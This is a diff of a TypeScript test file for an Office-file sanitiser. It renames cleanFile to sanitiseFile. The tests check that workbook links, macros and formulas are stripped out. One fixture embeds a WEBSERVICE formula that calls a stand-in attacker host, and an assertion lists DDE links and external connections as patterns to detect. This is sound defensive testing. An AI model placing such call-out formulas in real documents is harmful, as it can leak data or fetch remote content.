@@ -2,12 +2,12 @@ import { unzipSync } from 'fflate';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { isHarmlessFormula } from '#server/domain/evidence/removed-content.rules.ts';
-import { cleanFile } from '#server/files/check/clean-file.ts';
+import { sanitiseFile } from '#server/files/check/sanitise-file.ts';
 import { FileRefusal } from '#server/files/check/file-refusal.ts';
 import { formulaCell, makeLinks, makeWord, makeWorkbook } from '#tests/support/office-documents.ts';
 
 async function partsOf(content: Uint8Array): Promise<Record<string, string>> {
-  const cleaned = await cleanFile(content);
+  const cleaned = await sanitiseFile(content);
   return Object.fromEntries(
     Object.entries(unzipSync(cleaned.content)).map(([name, part]) => [name, Buffer.from(part).toString()]),
   );
@@ -16,7 +16,7 @@ const sheetOf = async (content: Uint8Array) => (await partsOf(content))['xl/work
 const formulasOf = (xml: string) => [...xml.matchAll(/<f\b[^>]*>([^<]*)<\/f>/g)].map(([, text]) => text);
 
 async function sentenceOf(content: Uint8Array): Promise<string> {
-  return cleanFile(content).then(
+  return sanitiseFile(content).then(
     () => 'taken',
     (error: unknown) => {
       if (error instanceof FileRefusal) return error.message;
@@ -184,7 +184,7 @@ describe('a workbook', () => {
     expect(Object.values(parts).join('')).not.toMatch(
       /evil|ddeLink|connections|queryTable|externalRef|calcChain|volatile/,
     );
-    expect((await cleanFile(sent)).removed).toEqual(['links']);
+    expect((await sanitiseFile(sent)).removed).toEqual(['links']);
   });
 
   test('loses macros of shapes and controls, and what they are bound to outside', async () => {
@@ -261,7 +261,7 @@ describe('a workbook', () => {
     const inner = makeWorkbook({
       rows: `<row r="1">${formulaCell('A1', 'WEBSERVICE("http://evil.test")')}</row>`,
     });
-    const { content, removed } = await cleanFile(makeWord('', [], { 'word/embeddings/a.xlsx': inner }));
+    const { content, removed } = await sanitiseFile(makeWord('', [], { 'word/embeddings/a.xlsx': inner }));
     const embedded = unzipSync(content)['word/embeddings/a.xlsx']!;
     expect(Buffer.from(unzipSync(embedded)['xl/worksheets/sheet1.xml']!).toString()).not.toMatch(/evil|<f>/);
     expect(removed).toEqual(['formulas']);
